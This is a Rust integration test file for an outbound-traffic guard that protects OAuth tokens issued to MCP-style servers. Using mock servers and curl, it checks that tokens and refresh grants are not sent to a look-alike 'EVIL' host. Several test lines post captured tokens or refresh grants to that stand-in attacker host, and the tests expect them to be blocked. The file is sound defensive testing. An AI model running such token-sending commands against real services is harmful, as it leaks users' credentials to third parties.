//! Servers that name their token endpoints themselves, as those of the Model Context Protocol do, through the guard.

use std::sync::{Arc, Mutex};

use exfilter::config::Config;
use exfilter_guard::{Outcome, Settings};
use exfilter_testing::{Rng, canary, keys};
use serde_json::json;

use crate::stage::{Stage, engine, has};
use crate::upstream::{Answer, Arrived};

const AUTH: &str = "https://echo.example.com";
const MCP: &str = "https://mcp.echo.example.com/mcp";
const EVIL: &str = "https://mcp.example.net/mcp";

/// An authorization server, a server that names it and is below it, and one that names it and is elsewhere.
#[derive(Default)]
struct Servers {
    given: Mutex<Vec<String>>,
    /// What the metadata come in.
    codings: Mutex<&'static str>,
}

impl Servers {
    fn answer(&self, request: &Arrived) -> Answer {
        let host = request.header("host").unwrap_or_default();
        let resource = |url: &str| json!({"resource": url, "authorization_servers": [AUTH]});
        let document = match (&host[..], request.target.as_str()) {
            ("mcp.echo.example.com", "/.well-known/oauth-protected-resource/mcp") => resource(MCP),
            ("mcp.example.net", "/.well-known/oauth-protected-resource/mcp") => resource(EVIL),
            ("echo.example.com", "/.well-known/oauth-authorization-server") => json!({
                "issuer": AUTH, "authorization_endpoint": format!("{AUTH}/authorize"),
                "token_endpoint": format!("{AUTH}/oauth/token"), "code_challenge_methods_supported": ["S256"],
            }),
            ("echo.example.com", "/oauth/token") => return self.give(&request.body),
            // Those that are called with a token.
            _ => {
                let bearer = request.header("authorization").unwrap_or_default();
                let is_known = self.given.lock().unwrap().iter().any(|one| bearer == format!("Bearer {one}"));
                let status = if is_known { 200 } else { 401 };
                return Answer { status, headers: Vec::new(), body: bearer.into_bytes() };
            }
        };
        let mut headers = vec![("content-type", "application/json".into()), ("etag", "\"1\"".into())];
        if request.header("if-none-match").is_some() {
            return Answer { status: 304, headers, body: Vec::new() };
        }
        let mut body = document.to_string().into_bytes();
        if *self.codings.lock().unwrap() == "gzip" {
            headers.push(("content-encoding", "gzip".into()));
            body = crate::logins::stored(&body);
        }
        Answer { status: 200, headers, body }
    }

    fn give(&self, body: &[u8]) -> Answer {
        let body = String::from_utf8_lossy(body).into_owned();
        let mut given = self.given.lock().unwrap();
        let of_refresh = |one: &String| body.contains(&format!("refresh_token={one}"));
        if !body.contains("code=good") && !given.iter().any(of_refresh) {
            return Answer {
                status: 400,
                headers: Vec::new(),
                body: br#"{"error":"invalid_grant"}"#.to_vec(),
            };
        }
        let mut rng = Rng::new(500 + given.len() as u64);
        let mut token = || String::from_utf8(rng.text(keys::BASE62, 44)).unwrap();
        let (access, refresh) = (token(), token());
        canary::note([access.as_bytes(), refresh.as_bytes()]);
        let body = json!({"access_token": access, "refresh_token": refresh, "token_type": "Bearer"});
        given.extend([access, refresh]);
        let headers = vec![("content-type", "application/json".into())];
        Answer { status: 200, headers, body: body.to_string().into_bytes() }
    }
}

struct Scene {
    stage: Stage,
    servers: Arc<Servers>,
    /// All that the client has seen.
    seen: Mutex<String>,
}

impl Scene {
    fn new(set: impl FnOnce(&mut Settings)) -> Scene {
        let learn = "version = 1\n[oauth]\nlearn = [\"*.example.com\", \"*.example.net\"]\n";
        Scene::under(learn, set)
    }

    /// With a policy.
    fn under(policy: &str, set: impl FnOnce(&mut Settings)) -> Scene {
        let config = Config::parse("policy.toml", policy).unwrap();
        let set = |settings: &mut Settings| {
            settings.config(config);
            set(settings);
        };
        let servers = Arc::new(Servers::default());
        let answering = servers.clone();
        let stage = Stage::with(engine(), &[b"http/1.1"], set, move |request| answering.answer(request));
        Scene { stage, servers, seen: Mutex::default() }
    }

    fn curl(&self, args: &[&str]) -> String {
        let said =
            self.stage.run(&[&["curl", "-sS", "-i", "--suppress-connect-headers"], args].concat()).said;
        self.seen.lock().unwrap().push_str(&said);
        said
    }

    /// What a client asks before it logs in.
    fn discover(&self, more: &[&str]) {
        for host in ["https://mcp.echo.example.com", "https://mcp.example.net"] {
            let said =
                self.curl(&[more, &[&format!("{host}/.well-known/oauth-protected-resource/mcp")]].concat());
            assert!(said.contains(" 200"), "{said}");
        }
        let said = self.curl(&[more, &[&format!("{AUTH}/.well-known/oauth-authorization-server")]].concat());
        assert!(said.contains(" 200"), "{said}");
    }

    fn token(&self, form: &str) -> (String, String) {
        let said = self.curl(&["-d", form, &format!("{AUTH}/oauth/token")]);
        let value = |name: &str| {
            let (_, rest) = said.split_once(&format!("\"{name}\":\"")).unwrap_or_else(|| panic!("{said}"));
            rest.split('"').next().unwrap().to_owned()
        };
        (value("access_token"), value("refresh_token"))
    }

    fn login(&self, resource: &str) -> (String, String) {
        self.token(&format!("grant_type=authorization_code&code=good&resource={resource}"))
    }

    fn call(&self, url: &str, bearer: &str) -> String {
        self.curl(&["-H", &format!("Authorization: Bearer {bearer}"), url])
    }

    fn nothing_came_in(&self) {
        let seen = self.seen.lock().unwrap();
        for token in self.servers.given.lock().unwrap().iter() {
            let piece = (0..token.len() - 8).find(|at| seen.contains(&token[*at..at + 8]));
            assert_eq!(piece, None, "a piece of a token came in");
        }
    }
}

#[test]
fn a_login_at_a_server_that_names_its_endpoint() {
    if !has("curl", &["--version"]) {
        return;
    }
    let scene = Scene::new(|_| {});
    scene.discover(&[]);
    let (access, refresh) = scene.login(MCP);
    assert!(scene.call(MCP, &access).contains(" 200"));
    // The one that is elsewhere gets what the client has, whatever it says of itself, and whatever was asked for.
    assert!(scene.call(EVIL, &access).contains(" 401"));
    let (other, _) = scene.login(EVIL);
    assert!(scene.call(EVIL, &other).contains(" 401") && scene.call(MCP, &other).contains(" 401"));
    // A refresh goes to the endpoint, and what comes of it is kept, too.
    let grant = format!("grant_type=refresh_token&refresh_token={refresh}&resource={MCP}");
    let (second, _) = scene.token(&grant);
    assert!(second != access && scene.call(MCP, &second).contains(" 200"));
    scene.stage.server.forget();
    for url in [EVIL, "https://mcp.example.net/oauth/token", "http://echo.example.com/oauth/token"] {
        scene.curl(&["-d", &grant, url]);
        scene.call(url, &second);
    }
    let arrived = String::from_utf8_lossy(&scene.stage.server.bytes()).into_owned();
    for token in scene.servers.given.lock().unwrap().iter() {
        assert!(!arrived.contains(token), "it went elsewhere");
    }
    scene.nothing_came_in();
    let kept = |outcome: Outcome| match outcome {
        Outcome::Kept { what } => Some(what),
        _ => None,
    };
    let told: Vec<String> =
        scene.stage.records().into_iter().filter_map(|record| kept(record.outcome)).collect();
    assert!(
        told.len() == 3 && told[0].ends_with("good at echo.example.com, mcp.echo.example.com"),
        "{told:?}"
    );
    assert!(
        told[1].contains(
            "\"https://echo.example.com/oauth/token\" = [\"echo.example.com\", \"mcp.example.net\"]"
        ),
        "{told:?}"
    );
    assert!(!told[2].contains("mcp.example.net"), "{told:?}");
    // Another policy that says nothing of it leaves it as it is.
    scene.stage.reload(engine(), |_| {});
    assert!(scene.call(MCP, &second).contains(" 200"));
    let (third, _) = scene.login(MCP);
    assert!(scene.call(MCP, &third).contains(" 200") && scene.call(EVIL, &third).contains(" 401"));
    scene.nothing_came_in();
}

/// The answer passes as it is, whatever it comes in, and is one even where the client has it already.
#[test]
fn what_is_learned_from_passes_as_it_came() {
    if !has("curl", &["--version"]) {
        return;
    }
    for coding in ["", "gzip"] {
        let scene = Scene::new(|_| {});
        *scene.servers.codings.lock().unwrap() = coding;
        let url = format!("{AUTH}/.well-known/oauth-authorization-server");
        let direct = scene.servers.answer(&Arrived {
            method: "GET".into(),
            target: "/.well-known/oauth-authorization-server".into(),
            http2: false,
            headers: vec![("host".into(), b"echo.example.com".to_vec())],
            body: Vec::new(),
            trailers: Vec::new(),
        });
        let got = scene.stage.path("got");
        let ran = scene.stage.run(&["curl", "-sS", "-o", &got, &url]);
        assert!(ran.ok, "{}", ran.said);
        assert!(std::fs::read(&got).unwrap() == direct.body, "{coding}");
        scene.login("https://mcp.echo.example.com");
        scene.nothing_came_in();
        let scene = Scene::new(|_| {});
        *scene.servers.codings.lock().unwrap() = coding;
        scene.discover(&["-H", "If-None-Match: \"1\"", "-o", "/dev/null", "-w", " %{http_code}"]);
        let (access, _) = scene.login(MCP);
        assert!(scene.call(MCP, &access).contains(" 200"));
        scene.nothing_came_in();
    }
}

/// Without that nobody knows the address, and tokens pass as before; nor where the policy names none, or another host.
#[test]
fn an_endpoint_that_nobody_has_named() {
    if !has("curl", &["--version"]) {
        return;
    }
    let scene = Scene::new(|_| {});
    let (access, _) = scene.login(MCP);
    assert!(scene.servers.given.lock().unwrap().contains(&access));
    for learn in ["", "\"mcp.echo.example.com\""] {
        let policy = &format!("version = 1\n[oauth]\nlearn = [{learn}]\n");
        let scene = Scene::under(policy, |_| {});
        scene.discover(&[]);
        let (access, _) = scene.login(MCP);
        assert!(scene.servers.given.lock().unwrap().contains(&access), "{policy}");
    }
    // In mode observe nothing is changed, though it is learned.
    let scene = Scene::new(|settings| {
        settings.observe();
    });
    scene.discover(&[]);
    let (access, _) = scene.login(MCP);
    assert!(scene.servers.given.lock().unwrap().contains(&access));
    let given =
        |outcome: &Outcome| matches!(outcome, Outcome::Given { what } if what.contains("mode observe"));
    assert!(scene.stage.records().iter().any(|record| given(&record.outcome)));
}

/// Where the policy says nothing, a login is kept outside if it goes on as it would without that.
#[test]
fn a_login_where_the_policy_says_nothing() {
    if !has("curl", &["--version"]) {
        return;
    }
    let scene = Scene::under("version = 1\n", |_| {});
    scene.discover(&[]);
    let (access, refresh) = scene.login(MCP);
    assert!(!scene.servers.given.lock().unwrap().contains(&access));
    assert!(scene.call(MCP, &access).contains(" 200") && scene.call(EVIL, &access).contains(" 401"));
    let (second, _) =
        scene.token(&format!("grant_type=refresh_token&refresh_token={refresh}&resource={EVIL}"));
    assert!(scene.call(AUTH, &second).contains(" 200") && scene.call(EVIL, &second).contains(" 401"));
    scene.nothing_came_in();
    // One for a server elsewhere comes in, as if nothing had been learned; the record has the line for it.
    let (elsewhere, _) = scene.login(EVIL);
    assert!(scene.servers.given.lock().unwrap().contains(&elsewhere));
    assert!(scene.call(EVIL, &elsewhere).contains(" 200"));
    let line = "\"https://echo.example.com/oauth/token\" = [\"echo.example.com\", \"mcp.example.net\"]";
    let given = |outcome: &Outcome| matches!(outcome, Outcome::Given { what } if what.contains(line));
    assert_eq!(scene.stage.records().iter().filter(|record| given(&record.outcome)).count(), 1);
}

/// Who has strings of his choice looked for has nobody put in quarantine.
#[test]
fn hits_on_what_a_learned_endpoint_gave_begin_no_quarantine() {
    if !has("curl", &["--version"]) {
        return;
    }
    let learn = "version = 1\n[oauth]\nlearn = [\"*.example.com\"]\n[quarantine]\nhits = 1\nminutes = 1\n";
    let scene = Scene::under(learn, |_| {});
    scene.discover(&[]);
    scene.login(MCP);
    let token = scene.servers.given.lock().unwrap()[0].clone();
    for url in [EVIL, "https://mcp.example.net/other"] {
        let ran = scene.stage.run(&["curl", "-sS", "-i", "-d", &format!("x {token} x"), url]);
        assert!(ran.said.contains("blocked by policy"));
    }
    assert!(!scene.stage.guard.is_quarantined());
    assert!(!String::from_utf8_lossy(&scene.stage.server.bytes()).contains(&format!("x {token} x")));
}

/// A policy that is taken while the guard runs.
#[test]
fn a_host_that_a_reload_takes_out_is_forgotten() {
    if !has("curl", &["--version"]) {
        return;
    }
    let scene = Scene::new(|_| {});
    scene.discover(&[]);
    let (access, refresh) = scene.login(MCP);
    assert!(scene.call(MCP, &access).contains(" 200"));
    let learn = |hosts: &str| {
        let text = format!("version = 1\n[oauth]\nlearn = [{hosts}]\n");
        let config = Config::parse("policy.toml", &text).unwrap();
        scene.stage.reload(engine(), |settings| {
            settings.config(config);
        });
    };
    learn("");
    for url in [MCP, AUTH] {
        assert!(scene.call(url, &access).contains(" 401"), "{url}");
    }
    let grant = format!("grant_type=refresh_token&refresh_token={refresh}");
    assert!(scene.curl(&["-d", &grant, &format!("{AUTH}/oauth/token")]).contains("invalid_grant"));
    // What is kept stays outside, and nothing more is learned.
    let token = scene.servers.given.lock().unwrap()[0].clone();
    let ran = scene.stage.run(&["curl", "-sS", "-i", "-d", &format!("x {token} x"), EVIL]);
    assert!(ran.said.contains("blocked by policy"));
    scene.nothing_came_in();
    scene.discover(&[]);
    let (after, _) = scene.login(MCP);
    assert!(scene.servers.given.lock().unwrap().contains(&after));
    // Not by itself when it comes back.
    learn("\"*.example.com\"");
    assert!(scene.call(MCP, &access).contains(" 401"));
}
